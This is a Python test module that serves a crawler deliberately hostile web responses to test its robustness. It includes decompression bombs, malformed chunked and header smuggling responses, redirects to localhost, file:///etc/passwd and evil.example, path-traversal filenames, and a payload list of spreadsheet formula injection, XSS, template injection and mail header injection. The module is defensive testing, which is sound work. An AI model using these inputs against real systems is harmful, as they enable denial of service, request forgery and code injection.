"""More of what the second hostile web answers: packings in packings, wires, headers, alphabets, data and addresses."""

from __future__ import annotations

import html
import json
import socket
import zlib

import brotli
from backports import zstd

from tests.ambush.traps import page
from tests.ambush.web import Trap, answer, raw

_MB = 1 << 20
_OK = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
_TEXT = "<p>" + "Warga desa membahas panen padi bersama petugas lapangan. " * 12 + "</p>"


def _coded(body: bytes, *codings: str) -> Trap:
    return answer(body, "text/html", "200 OK", *(f"Content-Encoding: {one}" for one in codings))


def packed() -> list[Trap]:
    """Packings within packings, packings that are none, and more names of packings than any answer has."""
    gzipped = zlib.compressobj(9, wbits=31)
    inner = gzipped.compress(b"\0" * 200 * _MB) + gzipped.flush()
    return [
        _coded(zstd.compress(brotli.compress(inner, quality=5)), "gzip, br, zstd"),
        _coded(zlib.compress(zlib.compress(b"\0" * 100 * _MB, 9), 9), "deflate", "deflate"),
        _coded(inner, ", ".join(["gzip"] * 500)),
        _coded(inner, "identity, gzip"), _coded(inner, "GZIP"), _coded(inner, "x-snappy, gzip"), _coded(inner, "zstd"),
        _coded(zstd.compress(b"<p>utuh</p>")[:9], "zstd"), _coded(brotli.compress(b"<p>utuh</p>")[:5], "br"),
        _coded(b"\x1f\x8b" + b"\xff" * 400_000, "gzip"), _coded(b"", "gzip"), _coded(b"", "br"),
    ]  # fmt: skip


# Wires


def _hints(wire: socket.socket) -> None:
    for number in range(20_000):
        wire.sendall(b"HTTP/1.1 103 Early Hints\r\nLink: <http://127.0.0.1/%d>; rel=preload\r\n\r\n" % number)
    wire.sendall(_OK + b"Content-Length: 0\r\n\r\n")


def _chunk_of_words(wire: socket.socket) -> None:
    """The size of the first chunk is followed by an extension without an end."""
    wire.sendall(_OK + b"Transfer-Encoding: chunked\r\n\r\n5;")
    while True:
        wire.sendall(b"a=" + b"b" * 60_000)


def _trailers(wire: socket.socket) -> None:
    wire.sendall(_OK + b"Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n")
    while True:
        wire.sendall(b"X-Ekor: " + b"y" * 60_000 + b"\r\n")


def _crumbs(wire: socket.socket) -> None:
    """Chunks of one byte."""
    wire.sendall(_OK + b"Transfer-Encoding: chunked\r\n\r\n")
    while True:
        wire.sendall(b"1\r\nz\r\n" * 10_000)


def wires() -> list[Trap]:
    """Lies about where an answer ends, and answers before the answer."""
    body = _TEXT.encode()
    size = str(len(body)).encode()
    return [
        _hints, _chunk_of_words, _trailers, _crumbs,
        raw(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n" + b"PRI *\r\n" * 99),
        raw(_OK + b"Transfer-Encoding: chunked\r\nContent-Length: " + size + b"\r\n\r\n" + body),
        raw(_OK + b"Transfer-Encoding: gzip, chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"),
        raw(_OK + b"Transfer-Encoding: chunked, chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"),
        raw(_OK + b"Transfer-Encoding: xchunked\r\nContent-Length: 3\r\n\r\nabc"),
        raw(_OK + b"Content-Length: +3\r\n\r\nabc"), raw(_OK + b"Content-Length: 0x3\r\n\r\nabc"),
        raw(_OK + b"Content-Length: 3 3\r\n\r\nabc"), raw(_OK + "Content-Length: ３\r\n\r\nabc".encode()),
        raw(_OK + b"Content-Length: " + b"9" * 5000 + b"\r\n\r\nabc"),
        raw(_OK + b"Transfer-Encoding: chunked\r\n\r\n" + b"0" * 100_000 + b"3\r\nabc\r\n0\r\n\r\n"),
        raw(_OK + b"Transfer-Encoding: chunked\r\n\r\n0x3\r\nabc\r\n0\r\n\r\n"),
        raw(b"HTTP/1.1 200 OK\nContent-Length: 3\n\nabc"), raw(b"HTTP/1.1 -200 OK\r\n\r\nabc"),
        raw(b"HTTP/1.1 1000 OK\r\n\r\nabc"), raw(b"HTTP/1.1\r\n\r\n"), raw(b"\r\n" * 50_000), raw(b"\0" * 70_000),
    ]  # fmt: skip


# Headers


def headers(home: str) -> list[Trap]:
    """Answers whose headers say what none should."""
    body = page("Kabar dari desa", _TEXT, "2026-10-14T08:00:00+07:00")
    said = (
        ("Content-Range: bytes 0-0/1",), ("Content-Range: bytes */9",), ("Retry-After: inf",), ("Retry-After: -1",),
        ("Last-Modified: Fri, 31 Dec 99999 23:59:59 GMT", "Date: nan"), ("ETag: W/" + '"' * 9000,),
        ("Content-Type: text/html", "Content-Type: image/png"), ("Location: http://127.0.0.1/",),
        ("Refresh: 0;url=file:///etc/passwd", "X-Accel-Redirect: /etc/passwd"), ("Alt-Svc: h2=\"127.0.0.1:1\"",),
        ("Set-Cookie: a=b; Domain=.id; Max-Age=99999999999999999999",) * 300,
        ("Link: <http://127.0.0.1/>; rel=canonical",),
        ("Content-Disposition: attachment; filename=../../../etc/cron.d/x",), ("Content-Location: http://127.0.0.1/",),
        ("Strict-Transport-Security: max-age=1e999",), ("Warning: \x1b[2J\x07",), ("\u202eX: y",),
    )  # fmt: skip
    kinds = (
        "text/html; charset=zlib_codec", "text/html; charset=base64_codec", "text/html; charset=rot13",
        "text/html; charset=unicode_escape", "text/html; charset=punycode", "text/html; charset=idna",
        "text/html; charset=undefined", "text/html; charset=utf-7", "text/html; charset=iso-2022-kr",
        "text/html; charset=iso-2022-jp-ext", "text/html; charset=hz", "text/html; charset=utf-32-be",
        "text/html; charset=cp037", "text/html; charset=\"", "text/html; charset=../../x", "text/html; charset=mbcs",
        "text/html; charset=" + "a" * 8000, "text/html;" * 800, "TEXT/HTML ;Charset=\tUTF-16", "multipart/byteranges",
        "message/http", "text/html\x00", "application/xhtml+xml; charset=utf-8", "*/*", "image/svg+xml", "",
    )  # fmt: skip
    moved = (
        f"{home}/read/1/x\r\n Set-Cookie: a=b", "?", "#", "//", "///", "http:", "http:///etc/passwd",
        "https:@evil.example",
        "http://[::1", "http://[v1.x]/", "http://a b/", "http://evil.example\\@liputan6.com/", "\thttp://evil.example/",
        "ht\ttp://evil.example/", "http://liputan6.com%00.evil.example/", "http://liputan6.com%2eevil.example/",
        "http://liputan6.com:0x50/", "http://liputan6.com:99999/", "http://liputan6。com.evil.example/",
        "http://ⓔvil.example/", "http://lіputan6.com/read/1/x", "http://xn--/", "http://" + "a" * 300 + ".com/",
        "http://0300.0250.0.1/", "http://3232235521/", "http://0xc0a80001/", "http://192.168.1/",
        "http://[64:ff9b::a00:1]/",
        "http://[2002:a00:1::]/", "http://[::ffff:0:127.0.0.1]/", "http://user:pass@liputan6.com.:80@127.0.0.1/",
        "view-source:http://127.0.0.1/", "jar:http://127.0.0.1/!x", "about:blank", "blob:http://127.0.0.1/x",
        "ws://127.0.0.1/",
        "feed://127.0.0.1/", "FILE:/etc/passwd", "data:text/html;base64,PHNjcmlwdD4=", "php://filter/resource=x",
    )  # fmt: skip
    return [
        *(answer(body, "text/html; charset=utf-8", "200 OK", *one) for one in said),
        *(answer(body, kind) for kind in kinds),
        *(answer(b"", "text/html", "302 Found", f"Location: {one}") for one in moved),
        answer(body, status="206 Partial Content"), answer(body, status="203 x"), answer(body, status="226 IM Used"),
        answer(body, status="300 Multiple Choices"), answer(body, status="305 Use Proxy"), answer(body, status="418 x"),
    ]  # fmt: skip


# Data in pages


def _with_data(data: str) -> Trap:
    shown = f'<!doctype html><html><head><meta charset="utf-8"><title>Kabar dari desa</title>{data}</head><body>'
    return answer(
        f"{shown}<article><h1>Kabar dari desa</h1>{_TEXT}</article></body></html>".encode("utf-8", "surrogatepass")
    )


def _ld(text: str) -> Trap:
    return _with_data(f'<script type="application/ld+json">{text}</script>')


def data() -> list[Trap]:
    """JSON that is none, or says what no article does."""
    news = '{"@type": "NewsArticle", "headline": %s, "datePublished": %s, "author": %s, "articleBody": %s}'
    odd = (
        "NaN", "Infinity", "-1e999", "9" * 10_000, "[]", "{}", "null", "true", "[[[[[]]]]]", '"\\ud800"', '"\\u0000"',
        '"' + "\u202e" * 9000 + '"', '"' + "a\u0301" * 90_000 + '"', '{"@value": {"@value": {"@value": 1}}}',
        '"' + "x" * 900_000 + '"', '["' + '","'.join("abcdef" * 5000) + '"]',
    )  # fmt: skip
    twins = ",".join(f'"headline": "judul {number}"' for number in range(50_000))
    names = ",".join(f'{{"@type": "Person", "name": "Nama {number}"}}' for number in range(40_000))
    dates = (
        "9999-12-31T23:59:59-23:59", "0000-00-00", "-2026-10-14", "2026-10-14T25:61:61", "1e10", "99999999999999999999",
        "2026-W42-3", "14 Oktober 20261", "٢٠٢٦-١٠-١٤", "2026-10-14T08:00:00+99:99", "kemarin" * 20_000, "1" * 50_000,
    )  # fmt: skip
    return [
        *(_ld(news % (one, one, one, one)) for one in odd),
        _ld('{"@type": "NewsArticle", ' + twins + "}"), _ld(news % ('"Kabar"', '"2026-10-14"', f"[{names}]", '""')),
        _ld('{"@graph": ' * 5000 + "1" + "}" * 5000), _ld("/*" * 400_000), _ld("<!--" * 300_000), _ld("\\" * 900_000),
        *(_ld(news % ('"Kabar"', json.dumps(one), '"x"', '""')) for one in dates),
        *(_with_data(f'<meta property="article:published_time" content="{one}">') for one in dates),
        _with_data('<meta property="og:title" content="x">' * 60_000),
        _with_data('<base href="http://127.0.0.1/"><link rel="next" href="?page=2"><link rel="amphtml" href="//[">'),
        _with_data('<meta charset="unicode_escape"><meta http-equiv="Content-Type" content="text/html; charset=zlib">'),
        _with_data("<title>" * 90_000), _with_data("<script>" * 90_000),
        _with_data("<noscript><noembed><xmp>" * 60_000),
        _with_data("<svg><style><!--</style><title>--></title>" * 30_000), _with_data("<plaintext>" * 90_000),
        _with_data(f"<p {'x' * 3_000_000}>"), _with_data("&#x110000;&#xD800;&#0;&notit;" * 90_000),
    ]  # fmt: skip


# Feeds and lists


def feeds(port: int) -> list[bytes]:
    """Feeds and sitemaps that lead to themselves, to others and to nobody."""
    spaces = " ".join(f'xmlns:n{number}="urn:{number}"' for number in range(60_000))
    nested = f"<sitemapindex>{'<sitemap><loc>https://www.merdeka.com/rss/</loc></sitemap>' * 5000}</sitemapindex>"
    links = (
        f"http://merdeka.com@127.0.0.1:{port}/a-b-c-d.html", f"http://127.0.0.1:{port}\t/a-b-c-d.html",
        "java\nscript:alert(1)",
        "http://merdeka.com\r\n.evil.example/jatim/a.html", "https://merdekа.com/jatim/kabar-desa.html",
        "https://www.merdeka.com./jatim/x.html",
        "//[::1]/jatim/x.html", "https://www.merdeka.com:22/jatim/kabar-desa.html",
        "HTTPS://WWW.MERDEKA.COM/../../jatim/%00.html",
        f"https://www.merdeka.com/jatim/{'%2e%2e/' * 300}x.html",
        "https://www.merdeka.com/jatim/" + "a" * 90_000 + ".html",
    )  # fmt: skip
    items = "".join(
        f'<item xml:base="http://127.0.0.1/"><title>{html.escape(one[:90])}&#8238;</title><link>{html.escape(one)}</link>'
        f"<pubDate>{when}</pubDate><guid isPermaLink='true'>{html.escape(one)}</guid></item>"
        for one in links
        for when in ("Wed, 14 Oct 99999 08:00:00 +0700", "-1", "Wed, 14 Oct 2026 08:00:00 +9999", "")
    )
    feed = '{{"version": "https://jsonfeed.org/version/1", "items": [{}]}}'
    return [
        f"<rss {spaces}><channel><item><title>x</title></item></channel></rss>".encode(),
        nested.encode(), f"<rss><channel>{items}</channel></rss>".encode(),
        feed.format('{"id": NaN, "url": Infinity, "date_published": -1e999}' + ',{"url": [[[]]]}' * 60_000).encode(),
        b'[{"id": ' * 50_000 + b"1" + b"}]" * 50_000, b'[{"link": 1e999, "title": {"rendered": [NaN]}, "date": {}}]',
        b'<rss><channel><item ' + b'a="b" ' * 5 + b"><title>" + b"&lt;" * 900_000 + b"</title></item></channel></rss>",
        f"<rss><channel><item><title><![CDATA[{']]]]><![CDATA[>' * 90_000}]]></title></item></channel></rss>".encode(),
        b"<?xml" + b" version='1.0'" * 90_000 + b"?><rss/>", b"<?xml version='1.0' encoding='zlib_codec'?><rss/>",
    ]  # fmt: skip


# Texts that want to be a formula, a link, another line, or somebody else's words
PAYLOADS = (
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝HYPERLINK(1)", "\t=1+1",
    "\u202e)txt.exe(",
    "\u2066\u2067\u2068x", "[klik](javascript:window.__ambush=1)", "]]><script>window.__ambush=1</script>",
    "<!--<script>window.__ambush=1//-->",
    "&lt;script&gt;window.__ambush=1&lt;/script&gt;", "&amp;lt;img src=x onerror=window.__ambush=1&amp;gt;",
    "Z" + "\u0335\u0321" * 400,
    "\ufeff\u200b\u200d\u00ad", "<svg><animate onbegin=window.__ambush=1 attributeName=x dur=1s>",
    "<a href=//evil.example>x</a>",
    "<img srcset='x 1x' src=x onerror=window.__ambush=1>", "<object data='data:text/html,<script>1</script>'>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<input onfocus=window.__ambush=1 autofocus>",
    "<marquee onstart=window.__ambush=1>",
    "<video><source onerror=window.__ambush=1>", "{% import os %}{{ 7*7 }}", "{{ config }}", "%n%n%s%s",
    "../../../../etc/passwd",
    "\u2028alert(1)\u2029", "begin 644 x\r\n.\r\nQUIT", "\nBcc: x@evil.example",
    "<x hx-get=//evil.example hx-trigger=load>",
    "<div data-hx-on:load=window.__ambush=1 data-hx-get=/log-out data-hx-trigger=load>",
)  # fmt: skip
